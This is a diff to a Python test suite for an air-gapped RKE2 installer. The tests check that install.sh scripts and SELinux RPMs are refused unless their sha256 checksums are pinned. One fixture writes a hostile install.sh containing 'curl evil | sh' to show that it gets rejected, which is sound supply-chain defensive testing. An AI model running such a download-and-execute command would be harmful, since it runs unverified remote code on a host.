@@ -21,6 +21,7 @@ import pytest
 import yaml
 
 from vmstation import facts as facts_mod
+from vmstation import versions
 from vmstation.context import HostContext, RunContext
 from vmstation.errors import InputError, Unsupported
 from vmstation.execute import PhaseOutcome, decide_steps, apply
@@ -244,6 +245,38 @@ def test_airgapped_install_refuses_a_file_whose_checksum_differs(homelab, tmp_pa
     (directory / "rke2.linux-amd64.tar.gz").write_bytes(b"truncated")
     with pytest.raises(InputError, match="rke2.linux-amd64.tar.gz: sha256 does not match"):
         list(rke2.install(context(_with_artifacts(homelab, directory), "homelab", RHEL10, tmp_path)))
+
+
+TEST_INSTALL_SCRIPT = b"#!/bin/sh\n"
+
+
+@pytest.fixture(autouse=True)
+def test_install_script_is_pinned(monkeypatch):
+    """The air-gap directories of these tests hold a stand-in install.sh: pinned for the test's duration."""
+    monkeypatch.setitem(versions.RKE2_INSTALL_SCRIPTS, hashlib.sha256(TEST_INSTALL_SCRIPT).hexdigest(),
+                        "the stand-in install.sh of test_rke2_plan")
+
+
+def test_airgapped_install_refuses_an_install_sh_that_is_not_pinned(homelab, tmp_path):
+    directory = _artifacts_dir(tmp_path)
+    (directory / "install.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
+    with pytest.raises(InputError, match="install.sh: sha256 [0-9a-f]{64} is not a pinned RKE2 install.sh"):
+        list(rke2.install(context(_with_artifacts(homelab, directory), "homelab", RHEL10, tmp_path)))
+
+
+def test_airgapped_selinux_rpm_is_installed_only_when_pinned(homelab, tmp_path, monkeypatch):
+    directory = _artifacts_dir(tmp_path)
+    rpm = directory / "rke2-selinux-0.20-1.el10.noarch.rpm"
+    rpm.write_bytes(b"rpm bytes")
+    inventory = _with_artifacts(homelab, directory)
+    with pytest.raises(InputError, match="rke2-selinux-0.20-1.el10.noarch.rpm: sha256 .* not a pinned rke2-selinux"):
+        list(rke2.install(context(inventory, "homelab", RHEL10, tmp_path)))
+    monkeypatch.setitem(versions.RKE2_SELINUX_RPMS, rpm.name, hashlib.sha256(b"other bytes").hexdigest())
+    with pytest.raises(InputError, match="not a pinned rke2-selinux"):
+        list(rke2.install(context(inventory, "homelab", RHEL10, tmp_path)))
+    monkeypatch.setitem(versions.RKE2_SELINUX_RPMS, rpm.name, hashlib.sha256(b"rpm bytes").hexdigest())
+    ops = list(rke2.install(context(inventory, "homelab", RHEL10, tmp_path)))
+    assert any(isinstance(op, Command) and rpm.name in op.label for op in ops)
 
 
 def test_airgapped_install_uploads_checked_files_then_runs_install_sh(homelab, tmp_path):
